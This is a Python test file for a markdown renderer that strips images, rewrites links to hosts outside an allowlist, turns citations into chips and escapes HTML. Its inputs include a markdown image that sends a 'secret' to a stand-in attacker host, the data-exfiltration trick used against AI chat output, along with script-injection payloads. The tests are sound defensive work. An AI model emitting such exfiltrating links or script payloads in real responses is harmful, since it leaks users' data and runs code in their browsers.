from config import prose


def test_prose_is_rendered() -> None:
    html = prose.render("**Three** tasks\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    assert "<strong>Three</strong>" in html
    assert '<div class="wrap" tabindex="0" role="group" aria-label="Table"><table>' in html


def test_an_image_leaves_only_its_words() -> None:
    assert prose.render("![sales](https://evil.example/?d=secret)", ["evil.example"]) == "<p>sales</p>\n"


def test_a_link_to_another_host_becomes_its_words_and_the_host() -> None:
    assert prose.render("[here](https://evil.example/x)", ["www.notion.so"]) == "<p>here (evil.example)</p>\n"


def test_a_link_to_an_allowed_host_stays() -> None:
    html = prose.render("[here](https://www.notion.so/x)", ["www.notion.so"])

    assert html == '<p><a href="https://www.notion.so/x" rel="noopener nofollow">here</a></p>\n'


def test_html_and_scripts_are_shown_as_text() -> None:
    html = prose.render("<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1))", ["x"])

    assert "<script" not in html
    assert "<img" not in html
    assert "href" not in html


def test_only_citations_that_exist_become_chips() -> None:
    html = prose.render("True. [1] False. [7]", citations=[1], prefix="r1s")

    assert html == (
        '<p>True.<a class="cite" href="#r1s1" aria-label="Source 1" rel="noopener nofollow">1</a> False.</p>\n'
    )


def test_a_number_in_brackets_inside_code_stays() -> None:
    assert "<code>row[1]</code>" in prose.render("`row[1]` [1]", citations=[1])


def test_any_cut_of_a_text_can_be_rendered() -> None:
    text = "# A\n\n- **b** [c](https://d.example/e) `f`\n\n| g |\n|---|\n| [1] |\n\n```py\nx = 1\n```"

    rendered = [prose.render(text[:length], ["d.example"], [1]) for length in range(len(text) + 1)]

    assert all("<script" not in html for html in rendered)
